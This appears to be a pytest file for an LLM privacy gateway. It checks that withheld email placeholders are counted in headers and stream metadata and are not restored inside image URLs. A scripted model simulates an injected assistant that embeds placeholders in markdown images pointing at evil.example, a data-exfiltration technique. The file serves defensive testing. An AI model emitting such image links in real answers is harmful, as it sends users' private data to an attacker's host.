"""The client is told which placeholders were left in an answer, and never for what they stand."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from cosilo.models.kept.scripted import ScriptedModel
from cosilo.session import DefenceConfig
from cosilo.types import Chat, Generation, Sampling
from house import House, house

ASKED = "Write to ada.lovelace@example.org and mary.shelley@example.org."


class Steered(ScriptedModel):
    """Puts the placeholders that it is shown into an image of another host, as often as it is told."""

    times = 1

    async def generate(self, chat: Chat, sampling: Sampling) -> Generation:
        shown = re.findall(r"[A-Z]+_[a-z2-7]{6}", chat[-1].content)
        images = "".join(f"![](https://evil.example/{s}) " for s in shown * self.times)
        return Generation(f"{images}{' and '.join(shown)} will do.")


async def opened(folder: Path, **options: Any) -> House:
    given = {"detectors": ["patterns"], "conversation": "first-turn", **options}
    given["key_file"] = str(folder / "key")
    return await house(large=[Steered({})], around=(DefenceConfig("hide", "pseudonym", given),))


async def asked(
    h: House, text: str = ASKED, path: str = "/v1/chat/completions", **fields: Any
) -> Any:
    prompt = (
        {"prompt": text}
        if path == "/v1/completions"
        else {"messages": [{"role": "user", "content": text}]}
    )
    told = await h.send(path, {"model": "cosilo/x", **prompt, **fields})
    assert told.status == 200
    return told


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/completions"])
async def test_a_header_tells_how_many_of_each_kind(tmp_path: Path, path: str) -> None:
    h = await opened(tmp_path)
    told = await asked(h, path=path)
    assert told.headers["x-cosilo-withheld"] == "EMAIL=2"
    body = told.body.decode()
    assert "ada.lovelace@example.org and mary.shelley@example.org will do." in body
    assert body.count("https://evil.example/EMAIL_") == 2
    assert 'cosilo_withheld_total{point="x",kind="EMAIL"} 2' in h.gateway.metrics.exposition()


async def test_each_of_several_answers_counts(tmp_path: Path) -> None:
    told = await asked(await opened(tmp_path), n=2)
    assert told.headers["x-cosilo-withheld"] == "EMAIL=4"


@pytest.mark.parametrize("usage", [True, False])
async def test_a_stream_tells_it_at_its_end(tmp_path: Path, usage: bool) -> None:
    options = {"stream_options": {"include_usage": True}} if usage else {}
    told = await asked(await opened(tmp_path), stream=True, **options)
    assert "x-cosilo-withheld" not in told.headers
    lines = told.body.decode().splitlines()
    facts = next(json.loads(line[9:]) for line in lines if line.startswith(": cosilo "))
    assert facts["withheld"] == {"EMAIL": 2}
    beside = [json.loads(line[6:]) for line in lines if '"cosilo":' in line]
    assert [b["cosilo"]["withheld"] for b in beside] == ([{"EMAIL": 2}] if usage else [])


async def test_nothing_is_told_where_nothing_was_withheld(tmp_path: Path) -> None:
    h = await opened(tmp_path, restore_in=["text", "urls"])
    told = await asked(h)
    assert "x-cosilo-withheld" not in told.headers
    assert b"https://evil.example/ada.lovelace@example.org" in told.body
    streamed = await asked(h, stream=True)
    assert b"withheld" not in streamed.body


async def test_one_request_is_told_nothing_of_another(tmp_path: Path) -> None:
    h = await opened(tmp_path)
    await asked(h)
    assert "x-cosilo-withheld" not in (await asked(h, "Nothing private here.")).headers


SHAPES = {
    "/v1/responses": {"input": ASKED},
    "/v1/messages": {"messages": [{"role": "user", "content": ASKED}], "max_tokens": 100},
}


@pytest.mark.parametrize("path", SHAPES)
async def test_other_shapes_tell_it_too(tmp_path: Path, path: str) -> None:
    h = await opened(tmp_path)
    body = {"model": "cosilo/x", **SHAPES[path]}  # type: ignore[dict-item]
    told = await h.send(path, body)
    assert told.status == 200
    assert told.headers["x-cosilo-withheld"] == "EMAIL=2"
    streamed = await h.send(path, {**body, "stream": True})
    assert b'"withheld":{"EMAIL":2}' in streamed.body
    assert b"evil.example/ada" not in told.body + streamed.body
